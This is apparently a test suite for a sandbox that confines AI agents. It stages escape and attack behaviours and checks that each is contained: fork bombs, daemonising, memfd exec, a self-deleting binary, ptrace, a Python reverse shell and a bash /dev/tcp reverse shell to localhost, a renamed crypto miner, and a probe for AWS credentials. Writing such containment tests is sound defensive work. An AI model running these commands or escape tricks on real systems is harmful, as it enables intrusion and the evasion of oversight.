"""Real agents misbehaving inside the fence: each is contained, recorded, and nothing survives."""

from __future__ import annotations

import contextlib
import os
import signal
import subprocess
import sys
import textwrap
import uuid
from pathlib import Path

import pytest
from supervision_support import PY, needs_root, processes_with, wait_for

from corral.demo.servers import StratumPool
from corral.supervision.cgroups import Limits

pytestmark = needs_root
MINER = Path(__file__).resolve().parents[2] / "src/corral/demo/rogue_agent/miner_emulator.py"


def script(workspace: Path, name: str, body: str) -> str:
    path = workspace / name
    path.write_text(textwrap.dedent(body))
    return str(path)


def responses(outcome, step: str | None = None) -> list:  # type: ignore[no-untyped-def]
    return [e for e in outcome.events if e.step and (step is None or e.step == step)]


def test_fork_bomb_hits_the_pids_limit_and_the_agent_is_killed(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised(limits=Limits(memory_bytes=512 << 20, pids=32))
    marker = f"bomb-{uuid.uuid4().hex[:8]}"
    bomb = script(
        run.workspace,
        "grow.py",
        """
        import os, time
        while True:
            try:
                if os.fork() == 0:
                    time.sleep(60)
                    os._exit(0)
            except OSError:
                time.sleep(0.001)
    """,
    )
    run.start([PY, bomb, marker])
    outcome = run.finish()
    assert outcome.killed_by is not None and "CR-SUP-005" in outcome.killed_by
    kinds = [e.step for e in responses(outcome)]
    assert kinds[-1] == "kill" and "freeze" in kinds
    evidence = responses(outcome, "kill")[0].evidence or {}
    assert len(evidence.get("tree", [])) <= 32  # the limit held
    assert processes_with(marker) == []


def test_double_forked_setsid_daemon_stays_in_view_and_dies(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    marker = f"daemon-{uuid.uuid4().hex[:8]}"
    daemonize = script(
        run.workspace,
        "daemonize.py",
        """
        import os, sys, time
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", [f"sleep-{sys.argv[1]}", "300"])
            os._exit(0)
        open("started", "w").close()
        time.sleep(1.5)
    """,
    )
    supervisor = run.start([PY, daemonize, marker])
    daemon = f"sleep-{marker}"
    assert wait_for(lambda: processes_with(daemon))
    escaped = processes_with(daemon)
    assert set(escaped) <= set(supervisor.agent_pids())  # the cgroup still holds it
    run.finish()
    assert wait_for(lambda: not processes_with(marker), timeout=5)


def test_binary_that_deletes_itself_is_killed(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    marker = f"ghost-{uuid.uuid4().hex[:8]}"
    vanish = script(
        run.workspace,
        "vanish.sh",
        f"""
        cp /bin/sleep ./{marker}
        ./{marker} 60 &
        sleep 0.1
        rm ./{marker}
        wait
    """,
    )
    run.start(["sh", vanish])
    outcome = run.finish()
    assert outcome.killed_by is not None and "CR-SUP-006" in outcome.killed_by
    assert processes_with(marker) == []


def test_memfd_exec_is_killed(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    marker = f"memfd-{uuid.uuid4().hex[:8]}"
    memfd = script(
        run.workspace,
        "memfd.py",
        """
        import os, sys
        fd = os.memfd_create("payload", 0)
        with open("/bin/sleep", "rb") as source:
            os.write(fd, source.read())
        os.execv(f"/proc/self/fd/{fd}", [f"payload-{sys.argv[1]}", "60"])
    """,
    )
    run.start([PY, memfd, marker])
    outcome = run.finish()
    assert outcome.killed_by is not None and "CR-SUP-007" in outcome.killed_by
    assert processes_with(marker) == []


def test_ptrace_of_a_sibling_is_refused(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    probe = script(
        run.workspace,
        "trace.py",
        """
        import ctypes, errno, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        sibling = subprocess.Popen(["sleep", "30"])
        result = libc.ptrace(16, sibling.pid, None, None)  # PTRACE_ATTACH
        err = ctypes.get_errno()
        sibling.kill()
        open("ptrace.txt", "w").write(f"{result} {errno.errorcode.get(err, err)}")
    """,
    )
    run.start([PY, probe])
    outcome = run.finish()
    assert outcome.exit_code == 0
    assert (run.workspace / "ptrace.txt").read_text() == "-1 EPERM"


def test_agent_cannot_signal_the_supervisor(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    attack = script(
        run.workspace,
        "attack.py",
        """
        import os, signal, sys
        try:
            os.kill(int(sys.argv[1]), signal.SIGKILL)
            open("kill.txt", "w").write("sent")
        except OSError as exc:
            open("kill.txt", "w").write(exc.strerror)
    """,
    )
    run.start([PY, attack, str(os.getpid())])
    run.finish()
    assert (run.workspace / "kill.txt").read_text() == "No such process"


def test_agent_dies_with_its_supervisor(tmp_path: Path) -> None:
    marker = f"orphan-{uuid.uuid4().hex[:8]}"
    command = [
        sys.executable,
        "-m",
        "corral",
        "run",
        "-w",
        str(tmp_path),
        "--",
        PY,
        "-c",
        "import os, time; os.fork(); time.sleep(300)",
        marker,
    ]
    corral = subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.DEVNULL)
    try:
        assert wait_for(lambda: len(processes_with(marker)) >= 2, timeout=20)
        corral.send_signal(signal.SIGKILL)  # what an agent killing its supervisor would do
        corral.wait()
        assert wait_for(lambda: not processes_with(marker), timeout=5)
    finally:
        if corral.poll() is None:
            corral.kill()
        for pid in processes_with(marker):
            os.kill(pid, signal.SIGKILL)
        _remove_stale_cgroups()


def _remove_stale_cgroups() -> None:
    """The killed supervisor could not remove its (now empty) cgroups."""
    for base in Path("/sys/fs/cgroup").glob("**/corral-*"):
        if base.is_dir() and not (base / "cgroup.procs").read_text().strip():
            with contextlib.suppress(OSError):
                base.rmdir()


def test_bash_reverse_shell_is_killed(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    # The command line is innocent ("bash -i"); only the behaviour gives it away.
    wire = script(
        run.workspace,
        "wire.py",
        """
        import os, socket, time
        while not os.path.exists("port"):
            time.sleep(0.02)
        sock = socket.create_connection(("127.0.0.1", int(open("port").read())))
        for fd in (0, 1, 2):
            os.dup2(sock.fileno(), fd)
        os.execv("/bin/bash", ["bash", "-i"])
    """,
    )
    supervisor = run.start([PY, wire])
    listener = supervisor.listen_in_agent_netns()
    (run.workspace / "port").write_text(str(listener.getsockname()[1]))
    listener.settimeout(10)
    conn, _ = listener.accept()
    try:
        outcome = run.finish()
    finally:
        conn.close()
        listener.close()
    assert outcome.killed_by is not None and "CR-SUP-004" in outcome.killed_by
    evidence = responses(outcome, "kill")[0].evidence or {}
    assert evidence["finding"]["fds"]


def test_one_line_reverse_shell_is_stopped_at_exec(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    run.start(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"])
    outcome = run.finish()
    stops = responses(outcome, "stop")
    assert stops and stops[0].decision is not None
    assert "CR-SHL-001" in [r.id for r in stops[0].decision.rules]


def test_renamed_miner_talking_stratum_is_killed(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    (run.workspace / "miner.json").write_text('{"host": "127.0.0.1", "port": 3333}')
    launcher = script(
        run.workspace,
        "launch.py",
        f"""
        import os, sys, time
        while not os.path.exists("pool-ready"):
            time.sleep(0.02)
        os.execv(sys.executable, ["kworker", {str(MINER)!r}])
    """,
    )
    supervisor = run.start([PY, launcher])
    pool = StratumPool(supervisor.listen_in_agent_netns(3333))
    (run.workspace / "pool-ready").touch()
    try:
        outcome = run.finish()
    finally:
        pool.close()
    assert outcome.killed_by is not None and "CR-SUP-001" in outcome.killed_by
    assert pool.connections == 1
    kill = responses(outcome, "kill")[0]
    assert kill.evidence and kill.evidence["connections"]


def test_miner_named_on_the_command_line_is_stopped_at_exec(supervised) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    # bash: dash has no `exec -a`, and its error would end the shell before it is judged
    run.start(["bash", "-c", f"exec -a xmrig {PY} {MINER} -o stratum+tcp://127.0.0.1:3333"])
    outcome = run.finish()
    stops = responses(outcome, "stop")
    assert stops, [e.summary for e in outcome.events]
    assert any(r.id.startswith("CR-MIN") for r in stops[0].decision.rules)  # type: ignore[union-attr]


@pytest.mark.parametrize(
    ("command", "expect"),  # run from a script file: only the behaviour is under test here
    [
        ("echo x > /usr/corral-probe", "Read-only file system"),
        ("touch ./inside && echo ok", "ok"),
        ("cat /proc/net/dev | grep -c ':'", "1"),  # loopback only
        ("grep CapEff /proc/self/status", "0000000000000000"),
        ("grep NoNewPrivs /proc/self/status", "1"),
    ],
)
def test_fence_view(supervised, command: str, expect: str) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    probe = script(run.workspace, "probe.sh", f"({command}) > out.txt 2>&1\n")
    run.start(["sh", probe])
    run.finish()
    assert expect in (run.workspace / "out.txt").read_text()


def test_secrets_are_hidden(supervised, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    run = supervised()
    home = Path.home()
    (home / ".aws").mkdir(exist_ok=True)
    planted = home / ".aws" / f"credentials-{uuid.uuid4().hex[:6]}"
    planted.write_text("decoy")
    try:
        run.start(["sh", "-c", f"ls -a {home}/.aws > out.txt 2>&1; true"])
        run.finish()
        assert planted.name not in (run.workspace / "out.txt").read_text()
    finally:
        planted.unlink()
